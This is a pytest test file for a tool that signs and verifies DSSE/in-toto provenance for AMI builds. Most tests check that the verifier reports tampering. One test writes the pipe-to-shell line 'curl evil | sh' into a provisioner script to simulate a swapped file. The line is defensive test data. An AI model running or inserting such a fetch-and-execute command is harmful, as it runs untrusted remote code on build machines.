"""Provenance: DSSE/PAE, statements, signing, storage, each verify mismatch (moto in-process)."""

from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from imagekit import JUNIT_FAIL, JUNIT_PASS, facts_for, make_repo, register, register_base, tags_of
from imagekit import build_tags as make_build_tags

from factory import tags as T
from factory.aws import AwsClients, tag_list
from factory.aws.model import Image
from factory.cli import cli
from factory.config import ProvenanceConfig, load_config
from factory.errors import AwsError, ConfigError
from factory.localcloud import ext_kms
from factory.localcloud.app import ActionRequest, ExtensionError
from factory.provenance import (
    PREDICATE_TYPE,
    STATEMENT_TYPE,
    AttestedImage,
    BuildFacts,
    Envelope,
    FileSigner,
    KmsSigner,
    ParentRef,
    file_digests,
    generate_key_file,
    junit_summary,
    keyid_for,
    pae,
    parse_s3_uri,
    plan_build,
    plan_promotion,
    plan_verification,
    read_envelopes,
    record_build,
    record_promotion,
    record_verification,
    show_provenance,
    sign_envelope,
    signer_from_config,
    verify_envelope,
    verify_provenance,
)


def test_pae_matches_the_dsse_spec_example() -> None:
    # the DSSE spec's test vector: PAE("http://example.com/HelloWorld", "hello world")
    assert pae("http://example.com/HelloWorld", b"hello world") == (
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world"
    )


def test_pae_counts_bytes_not_characters() -> None:
    assert pae("t", "é".encode()) == b"DSSEv1 1 t 2 \xc3\xa9"


def test_envelope_round_trip_and_tamper(tmp_path: Path) -> None:
    signer = generate_key_file(tmp_path / "key.pem")
    envelope = sign_envelope({"_type": STATEMENT_TYPE, "x": 1}, signer)
    again = Envelope.from_json(envelope.to_json())
    assert again == envelope and again.digest == envelope.digest
    public = serialization.load_pem_public_key(signer.public_key_pem())
    assert isinstance(public, ec.EllipticCurvePublicKey)
    assert verify_envelope(again, {signer.keyid: public}) is None
    forged = Envelope(
        again.payload_type, again.payload.replace(b'"x":1', b'"x":2'), again.signatures
    )
    assert "does not verify" in (verify_envelope(forged, {signer.keyid: public}) or "")
    retyped = Envelope("text/plain", again.payload, again.signatures)
    assert verify_envelope(retyped, {signer.keyid: public}) is not None
    other = ec.generate_private_key(ec.SECP256R1()).public_key()
    assert "given public key" in (verify_envelope(again, {"pinned": other}) or "")


def test_key_file_is_private_and_refuses_overwrite(tmp_path: Path) -> None:
    path = tmp_path / "k.pem"
    signer = generate_key_file(path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert signer.keyid.startswith("sha256:")
    assert FileSigner(path).keyid == signer.keyid
    with pytest.raises(ConfigError, match="already exists"):
        generate_key_file(path)
    with pytest.raises(ConfigError, match="keygen"):
        FileSigner(tmp_path / "missing.pem")
    with pytest.raises(ConfigError, match="set \\[provenance\\] key_file to a PEM file"):
        FileSigner(tmp_path)  # a directory: one line, not an internal error


def test_public_key_out_to_a_missing_directory_is_a_config_error(tmp_path: Path) -> None:
    key = generate_key_file(tmp_path / "k.pem")
    config = tmp_path / "factory.toml"
    config.write_text(f'[provenance]\nkey_file = "{key.path}"\n')
    out = tmp_path / "missing" / "factory.pub"
    result = CliRunner().invoke(
        cli, ["--config", str(config), "provenance", "public-key", "--out", str(out)]
    )
    assert isinstance(result.exception, ConfigError), result.exception
    assert "cannot write" in result.exception.message
    assert not out.parent.exists()


def test_junit_summary() -> None:
    ok = junit_summary(JUNIT_PASS)
    assert (ok.tests, ok.failures, ok.skipped, ok.passed) == (5, 0, 1, True)
    assert not junit_summary(JUNIT_FAIL).passed
    assert not junit_summary(b"<testsuite tests='0'/>").passed


# ---- against moto ---------------------------------------------------------------------------


class World:
    """A base image, a verified factory image built from it, and its repository."""

    def __init__(self, aws: AwsClients, root: Path) -> None:
        self.aws = aws
        self.root = root
        self.files = make_repo(root)
        self.signer = generate_key_file(root / "signing.pem")
        self.base = register_base(aws)
        self.tags = make_build_tags("web", "1.0.0", self.base)
        self.ami = register(aws, "web-1.0.0", self.tags)
        facts = facts_for(root, self.files, "web", "1.0.0", self.base, self.tags)
        self.build = record_build(aws, self.signer, self.ami, facts)
        self.junit = root / "junit.xml"
        self.junit.write_bytes(JUNIT_PASS)
        aws.client("ec2").create_tags(
            Resources=[self.ami], Tags=tag_list({T.RESULT_DIGEST: "cd" * 32})
        )
        self.verification = record_verification(aws, self.signer, self.ami, "cd" * 32, self.junit)

    def public_key(self) -> ec.EllipticCurvePublicKey:
        key = serialization.load_pem_public_key(self.signer.public_key_pem())
        assert isinstance(key, ec.EllipticCurvePublicKey)
        return key

    def verify(self, ami: str | None = None):  # type: ignore[no-untyped-def]
        return verify_provenance(
            self.aws, ami or self.ami, repo=self.root, public_key=self.public_key()
        )

    def failures(self, ami: str | None = None) -> dict[str, str]:
        report = self.verify(ami)
        return {c.name: c.detail for c in report.failures}


@pytest.fixture
def world(aws: AwsClients, tmp_path: Path) -> World:
    return World(aws, tmp_path)


def test_statement_shape(world: World) -> None:
    lines = read_envelopes(world.aws, world.build.uri)
    assert len(lines) == 2
    statement = lines[0][1].statement()  # type: ignore[union-attr]
    assert statement["_type"] == STATEMENT_TYPE
    assert statement["predicateType"] == PREDICATE_TYPE
    subject = statement["subject"][0]
    image = world.aws.client("ec2").describe_images(ImageIds=[world.ami])["Images"][0]
    assert subject["digest"]["sha256"] == Image.from_api(image, "us-east-1").identity.digest
    assert subject["annotations"]["account"] == world.aws.account_id
    assert subject["annotations"]["snapshot_ids"] == [
        image["BlockDeviceMappings"][0]["Ebs"]["SnapshotId"]
    ]
    deps = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
    roles = sorted(d["annotations"]["role"] for d in deps)
    assert roles == [
        "provisioner",
        "provisioner",
        "source",
        "source-ami",
        "template",
        "template",
        "test-suite",
    ]
    hcl = next(d for d in deps if d["name"] == "templates/web/image.pkr.hcl.j2")
    assert (
        hcl["digest"]["sha256"]
        == hashlib.sha256((world.root / "templates/web/image.pkr.hcl.j2").read_bytes()).hexdigest()
    )
    builder = statement["predicate"]["runDetails"]["builder"]
    assert builder["version"] == {"ami-factory": "0.1.0", "packer": "1.6.6"}
    verification = lines[1][1].statement()  # type: ignore[union-attr]
    products = {p["name"]: p for p in verification["predicate"]["runDetails"]["byproducts"]}
    assert products["verify-result"]["digest"]["sha256"] == "cd" * 32
    assert products["junit.xml"]["digest"]["sha256"] == hashlib.sha256(JUNIT_PASS).hexdigest()


def test_tags_point_at_the_newest_line(world: World) -> None:
    tags = tags_of(world.aws, world.ami)
    bucket, key = parse_s3_uri(tags[T.PROVENANCE_URI])
    assert bucket == f"factory-provenance-{world.aws.account_id}-us-east-1"
    assert key == f"provenance/{world.aws.account_id}/us-east-1/{world.ami}.intoto.jsonl"
    body = world.aws.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read().decode()
    last = body.splitlines()[-1]
    assert tags[T.PROVENANCE_DIGEST] == hashlib.sha256(last.encode()).hexdigest()
    assert tags[T.PROVENANCE_DIGEST] == world.verification.digest


def test_verify_passes_for_an_untouched_image(world: World) -> None:
    report = world.verify()
    assert report.ok, report.failures
    assert report.chain == (world.ami, world.base)
    names = {c.name for c in report.checks}
    assert {"tests", "tags", "dependencies", "chain"} <= names


def test_verify_names_an_edited_tag(world: World) -> None:
    world.aws.client("ec2").create_tags(
        Resources=[world.ami], Tags=[{"Key": T.VERSION, "Value": "9.9.9"}]
    )
    failures = world.failures()
    assert failures == {
        f"tag {T.VERSION}": f"tag {T.VERSION} is '9.9.9' but the attestation says '1.0.0'"
    }


def test_verify_names_a_swapped_file(world: World) -> None:
    (world.root / "provisioners/web.sh").write_text("curl evil | sh\n")
    failures = world.failures()
    assert list(failures) == ["dependency provisioners/web.sh"]
    assert (
        "provisioner file provisioners/web.sh differs" in failures["dependency provisioners/web.sh"]
    )


def test_verify_names_a_broken_signature_and_edited_object(world: World) -> None:
    s3 = world.aws.client("s3")
    bucket, key = parse_s3_uri(world.build.uri)
    lines = s3.get_object(Bucket=bucket, Key=key)["Body"].read().decode().splitlines()
    doc = json.loads(lines[0])
    payload = json.loads(base64.b64decode(doc["payload"]))
    payload["predicate"]["buildDefinition"]["externalParameters"]["version"] = "6.6.6"
    doc["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    lines[0] = json.dumps(doc)
    s3.put_object(Bucket=bucket, Key=key, Body=("\n".join(lines) + "\n").encode())
    failures = world.failures()
    assert "line 1 (build): signature" in failures
    assert "does not verify" in failures["line 1 (build): signature"]


def test_verify_names_a_wrong_key(world: World, tmp_path: Path) -> None:
    other = generate_key_file(tmp_path / "other.pem")
    public = serialization.load_pem_public_key(other.public_key_pem())
    report = verify_provenance(world.aws, world.ami, repo=world.root, public_key=public)  # type: ignore[arg-type]
    assert {c.name for c in report.failures} == {
        "line 1 (build): signature",
        "line 2 (verification): signature",
        "build",
    }
    assert "does not verify with the given public key" in report.failures[0].detail


def test_verify_names_a_replaced_image(world: World) -> None:
    # same name, new AMI, tags copied: the subject no longer matches
    ec2 = world.aws.client("ec2")
    image = ec2.describe_images(ImageIds=[world.ami])["Images"][0]
    ec2.deregister_image(ImageId=world.ami)
    impostor = register(world.aws, "impostor", tags_of_image(image))
    failures = world.failures(impostor)
    assert any(
        "subject" in name and "ami_id attested" in detail for name, detail in failures.items()
    )
    assert any(name == f"tag {T.PROVENANCE_URI}" for name in failures)


def tags_of_image(image: dict) -> dict[str, str]:  # type: ignore[type-arg]
    return {t["Key"]: t["Value"] for t in image.get("Tags", [])}


def test_verify_needs_passed_tests(aws: AwsClients, tmp_path: Path) -> None:
    files = make_repo(tmp_path)
    signer = generate_key_file(tmp_path / "k.pem")
    base = register_base(aws)
    tags = make_build_tags("web", "2.0", base, status=T.Status.CANDIDATE)
    ami = register(aws, "web-2.0", tags)
    record_build(aws, signer, ami, facts_for(tmp_path, files, "web", "2.0", base, tags))
    public = serialization.load_pem_public_key(signer.public_key_pem())
    report = verify_provenance(aws, ami, repo=tmp_path, public_key=public)  # type: ignore[arg-type]
    assert {c.name for c in report.failures} == {"tests"}
    junit = tmp_path / "junit.xml"
    junit.write_bytes(JUNIT_FAIL)
    record_verification(aws, signer, ami, "ee" * 32, junit)
    aws.client("ec2").create_tags(Resources=[ami], Tags=tag_list({T.RESULT_DIGEST: "ee" * 32}))
    report = verify_provenance(aws, ami, repo=tmp_path, public_key=public)  # type: ignore[arg-type]
    assert [c.detail for c in report.failures] == [
        "the signed verification result is 'failed', not 'passed'"
    ]


def test_verify_names_a_swapped_junit(world: World) -> None:
    bucket, _ = parse_s3_uri(world.build.uri)
    key = f"provenance/{world.aws.account_id}/us-east-1/{world.ami}.junit.xml"
    world.aws.client("s3").put_object(Bucket=bucket, Key=key, Body=JUNIT_FAIL)
    failures = world.failures()
    assert list(failures) == ["tests: junit"]
    assert "changed" in failures["tests: junit"]


def test_chain_to_the_root_through_a_factory_parent(world: World) -> None:
    tags = make_build_tags("app", "1.0", world.ami)
    child = register(world.aws, "app-1.0", tags)
    files = make_repo(world.root, "app")
    facts = facts_for(world.root, files, "app", "1.0", world.ami, tags)
    build = record_build(world.aws, world.signer, child, facts)
    statement = build.statement
    source = statement["predicate"]["buildDefinition"]["resolvedDependencies"][0]
    assert source["annotations"]["attestation_digest"] == world.verification.digest
    junit = world.root / "junit-app.xml"
    junit.write_bytes(JUNIT_PASS)
    world.aws.client("ec2").create_tags(
        Resources=[child], Tags=tag_list({T.RESULT_DIGEST: "cd" * 32})
    )
    record_verification(world.aws, world.signer, child, "cd" * 32, junit)
    report = world.verify(child)
    assert report.ok, report.failures
    assert report.chain == (child, world.ami, world.base)
    # the parent's attestation promoted afterwards: still fine (the attested line is kept)
    promotion = record_promotion(
        world.aws,
        world.signer,
        world.ami,
        copies=[("210987654321", "eu-west-1", "ami-0123"), ("123456789012", "us-west-2", "ami-4")],
    )
    products = promotion.statement["predicate"]["runDetails"]["byproducts"]
    assert [p["uri"] for p in products] == [
        "arn:aws:ec2:eu-west-1:210987654321:image/ami-0123",
        "arn:aws:ec2:us-west-2:123456789012:image/ami-4",
    ]
    assert [s.stage for s in show_provenance(world.aws, world.ami).steps][-1] == "promotion"
    assert world.verify(world.ami).ok
    assert world.verify(child).ok
    with pytest.raises(ConfigError, match="names no copy"):
        record_promotion(world.aws, world.signer, world.ami, copies=[])
    # the parent's attestation rewritten: the chain breaks, naming the parent
    bucket, key = parse_s3_uri(world.build.uri)
    world.aws.client("s3").put_object(Bucket=bucket, Key=key, Body=b"{}\n")
    failures = world.failures(child)
    assert list(failures) == [f"chain: {world.ami}"]
    assert "no longer contains the attested line" in failures[f"chain: {world.ami}"]


def test_show(world: World) -> None:
    view = show_provenance(world.aws, world.ami)
    assert [s.stage for s in view.steps] == ["build", "verification"]
    assert view.ancestors == (world.base,)
    assert view.steps[0].keyid == world.signer.keyid


def test_kms_signer_with_moto_directly_documents_its_digest_bug(aws: AwsClients) -> None:
    """moto (in-process) ignores MessageType=DIGEST; the local cloud's ext_kms fixes it."""
    kms = aws.client("kms")
    key = kms.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
    public = serialization.load_der_public_key(kms.get_public_key(KeyId=key["KeyId"])["PublicKey"])
    assert isinstance(public, ec.EllipticCurvePublicKey)
    message = b"x" * 5000
    digest = hashlib.sha256(message).digest()
    request = ActionRequest(
        "kms",
        "Sign",
        "us-east-1",
        aws.account_id,
        {
            "KeyId": key["KeyId"],
            "Message": base64.b64encode(digest).decode(),
            "MessageType": "DIGEST",
            "SigningAlgorithm": "ECDSA_SHA_256",
        },
        "json",
    )
    response = json.loads(ext_kms.sign(request).body)
    public.verify(base64.b64decode(response["Signature"]), message, ec.ECDSA(hashes.SHA256()))
    public.verify(
        base64.b64decode(response["Signature"]), digest, ec.ECDSA(utils.Prehashed(hashes.SHA256()))
    )
    # RAW over 4096 bytes is refused, as AWS does
    raw = ActionRequest(
        "kms",
        "Sign",
        "us-east-1",
        aws.account_id,
        {**request.params, "Message": base64.b64encode(message).decode(), "MessageType": "RAW"},
        "json",
    )
    with pytest.raises(ExtensionError, match="4096"):
        ext_kms.sign(raw)


def test_signer_from_config(aws: AwsClients, tmp_path: Path) -> None:
    config = load_config(tmp_path, environ={})
    signer = signer_from_config(config, aws)
    assert isinstance(signer, KmsSigner)
    assert signer.keyid.startswith("arn:aws:kms:us-east-1:")
    assert signer_from_config(config, aws).keyid == signer.keyid  # the alias is reused
    generate_key_file(tmp_path / "k.pem")
    config = replace(config, provenance=ProvenanceConfig(key_file=Path("k.pem")))
    file_signer = signer_from_config(config, aws)
    assert isinstance(file_signer, FileSigner)
    public = serialization.load_pem_public_key(file_signer.public_key_pem())
    assert keyid_for(public) == file_signer.keyid  # type: ignore[arg-type]


def test_verify_trusts_the_configured_key_file_and_nothing_else(world: World) -> None:
    report = verify_provenance(
        world.aws, world.ami, repo=world.root, key_file=world.root / "signing.pem"
    )
    assert report.ok, report.failures
    untrusted = verify_provenance(world.aws, world.ami, repo=world.root)
    assert "no trusted public key for keyid sha256:" in untrusted.failures[0].detail


def test_verify_result_summary_and_suite_digest(aws: AwsClients, tmp_path: Path) -> None:
    files = make_repo(tmp_path)
    signer = generate_key_file(tmp_path / "k.pem")
    base = register_base(aws)
    tags = make_build_tags("web", "4.0", base)
    ami = register(aws, "web-4.0", tags)
    record_build(aws, signer, ami, facts_for(tmp_path, files, "web", "4.0", base, tags))
    summary = tmp_path / "summary.json"
    summary.write_text('{"outcome": "verified"}')
    digest = hashlib.sha256(summary.read_bytes()).hexdigest()
    junit = tmp_path / "junit.xml"
    junit.write_bytes(JUNIT_PASS)
    aws.client("ec2").create_tags(
        Resources=[ami], Tags=tag_list({T.RESULT_DIGEST: digest, T.SUITE_DIGEST: "5e" * 32})
    )
    record_verification(
        aws, signer, ami, digest, junit, passed=True, suite_digest="5e" * 32, summary_path=summary
    )
    key = load_key(signer)
    assert verify_provenance(aws, ami, repo=tmp_path, public_key=key).ok
    aws.client("ec2").create_tags(Resources=[ami], Tags=tag_list({T.SUITE_DIGEST: "00" * 32}))
    report = verify_provenance(aws, ami, repo=tmp_path, public_key=key)
    assert [c.name for c in report.failures] == [f"tag {T.SUITE_DIGEST}"]
    aws.client("ec2").create_tags(Resources=[ami], Tags=tag_list({T.SUITE_DIGEST: "5e" * 32}))
    bucket, _ = parse_s3_uri(tags_of(aws, ami)[T.PROVENANCE_URI])
    aws.client("s3").put_object(
        Bucket=bucket,
        Key=f"provenance/{aws.account_id}/us-east-1/{ami}.verify-result.json",
        Body=b'{"outcome": "verified", "edited": true}',
    )
    report = verify_provenance(aws, ami, repo=tmp_path, public_key=key)
    assert [c.name for c in report.failures] == ["tests: result"]
    # verify's own verdict wins over a clean-looking JUnit report
    record_verification(aws, signer, ami, digest, junit, passed=False)
    report = verify_provenance(aws, ami, repo=tmp_path, public_key=key)
    assert "not 'passed'" in report.failures[0].detail


def load_key(signer: FileSigner) -> ec.EllipticCurvePublicKey:
    key = serialization.load_pem_public_key(signer.public_key_pem())
    assert isinstance(key, ec.EllipticCurvePublicKey)
    return key


def test_file_digests_walks_folders_relative_to_the_repo(tmp_path: Path) -> None:
    make_repo(tmp_path)
    (tmp_path / "templates/web/tests/__pycache__").mkdir()
    (tmp_path / "templates/web/tests/__pycache__/x.pyc").write_bytes(b"\0")
    found = file_digests(tmp_path, [Path("templates/web"), tmp_path / "provisioners/web.sh"], "t")
    assert [f.path for f in found] == [
        "templates/web/image.pkr.hcl.j2",
        "templates/web/tests/test_image.py",
        "templates/web/vars.json",
        "provisioners/web.sh",
    ]
    assert found[-1].sha256 == hashlib.sha256(b"# web.sh\necho web\n").hexdigest()
    with pytest.raises(ConfigError, match="outside the repository"):
        file_digests(tmp_path / "templates", [tmp_path / "provisioners/web.sh"], "t")


def test_default_kms_key_race_keeps_the_first_alias(aws: AwsClients, tmp_path: Path) -> None:
    kms = aws.client("kms")
    first = kms.create_key(KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]
    # another runner created the alias between our DescribeKey and CreateAlias
    real_describe = kms.describe_key
    calls = {"n": 0}

    def describe_once_missing(**kwargs: str) -> object:
        calls["n"] += 1
        if calls["n"] == 1:
            kms.create_alias(AliasName="alias/ami-factory-provenance", TargetKeyId=first["KeyId"])
            raise kms.exceptions.NotFoundException(
                {"Error": {"Code": "NotFoundException", "Message": "no alias"}}, "DescribeKey"
            )
        return real_describe(**kwargs)

    kms.describe_key = describe_once_missing
    signer = signer_from_config(load_config(tmp_path, environ={}), aws)
    assert signer.keyid == first["Arn"]
    states = {
        k["KeyId"]: real_describe(KeyId=k["KeyId"])["KeyMetadata"]["KeyState"]
        for k in kms.list_keys()["Keys"]
    }
    assert sorted(states.values()) == ["Enabled", "PendingDeletion"]


def test_verify_refuses_a_missing_repo_before_any_aws_call(tmp_path: Path) -> None:
    args = ["provenance", "verify", "ami-0123456789abcdef0", "--repo", str(tmp_path / "nope")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2
    assert "does not exist" in result.output


# ---- plans are values; keys the verifier cannot read are named, not raised ---------------------


def _facts(tmp_path: Path) -> BuildFacts:
    files = make_repo(tmp_path)
    tags = make_build_tags("web", "1.0", "ami-0base")
    return facts_for(tmp_path, files, "web", "1.0", "ami-0base", tags)


def test_plans_need_no_aws(tmp_path: Path) -> None:
    image = Image("ami-0abc", "eu-west-1", name="web-1.0", snapshot_ids=("snap-1",))
    at = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    parent = ParentRef("ami-0base", "ab" * 32, "s3://b/base.intoto.jsonl", "cd" * 32)
    build = plan_build(image, parent, _facts(tmp_path), account="111", bucket="b", at=at)
    assert (build.bucket, build.key) == ("b", "provenance/111/eu-west-1/ami-0abc.intoto.jsonl")
    assert build.statement["subject"][0]["digest"]["sha256"] == image.identity.digest
    source = build.statement["predicate"]["buildDefinition"]["resolvedDependencies"][0]
    assert source["annotations"]["attestation_digest"] == "cd" * 32
    assert build.reports == ()
    attested = AttestedImage(image, f"s3://b/{build.key}", build.statement)
    verification = plan_verification(
        attested,
        account="111",
        bucket="b",
        junit=JUNIT_PASS,
        verify_result_digest="ef" * 32,
        passed=False,  # verify's verdict wins over a clean JUnit report
        suite_digest=None,
        summary=b"{}",
        at=at,
    )
    assert [r.key.rsplit(".", 2)[-2:] for r in verification.reports] == [
        ["junit", "xml"],
        ["verify-result", "json"],
    ]
    products = {
        p["name"]: p for p in verification.statement["predicate"]["runDetails"]["byproducts"]
    }
    assert products["verify-result"]["annotations"]["result"] == "failed"
    assert products["verify-result"]["uri"] == f"s3://b/{verification.reports[1].key}"
    assert products["junit.xml"]["annotations"] == {
        "tests": 5,
        "failures": 0,
        "errors": 0,
        "skipped": 1,
    }
    metadata = verification.statement["predicate"]["runDetails"]["metadata"]
    assert metadata["finishedOn"] == "2026-01-02T03:04:05Z"
    with pytest.raises(ConfigError, match="names no copy"):
        plan_promotion(attested, account="111", bucket="b", copies=[], at=at)


class _UnknownKmsKey:
    """Signs with a key file but names a KMS key that does not exist."""

    def __init__(self, signer: FileSigner, keyid: str) -> None:
        self._signer = signer
        self.keyid = keyid

    def sign(self, message: bytes) -> bytes:
        return self._signer.sign(message)

    def public_key_pem(self) -> bytes:
        return self._signer.public_key_pem()


def test_verify_names_a_kms_key_it_cannot_read(aws: AwsClients, tmp_path: Path) -> None:
    files = make_repo(tmp_path)
    keyid = f"arn:aws:kms:us-east-1:{aws.account_id}:key/00000000-0000-0000-0000-000000000000"
    signer = _UnknownKmsKey(generate_key_file(tmp_path / "k.pem"), keyid)
    base = register_base(aws)
    tags = make_build_tags("web", "5.0", base)
    ami = register(aws, "web-5.0", tags)
    record_build(aws, signer, ami, facts_for(tmp_path, files, "web", "5.0", base, tags))
    report = verify_provenance(aws, ami, repo=tmp_path)
    assert report.failures[0].detail == f"no trusted public key for keyid {keyid}"


def test_a_configured_kms_key_that_does_not_exist_is_named(aws: AwsClients) -> None:
    signer = KmsSigner(aws, "alias/nope")
    with pytest.raises(AwsError, match="alias/nope") as raised:
        _ = signer.keyid
    assert raised.value.exit_code == 1 and raised.value.code == "NotFoundException"
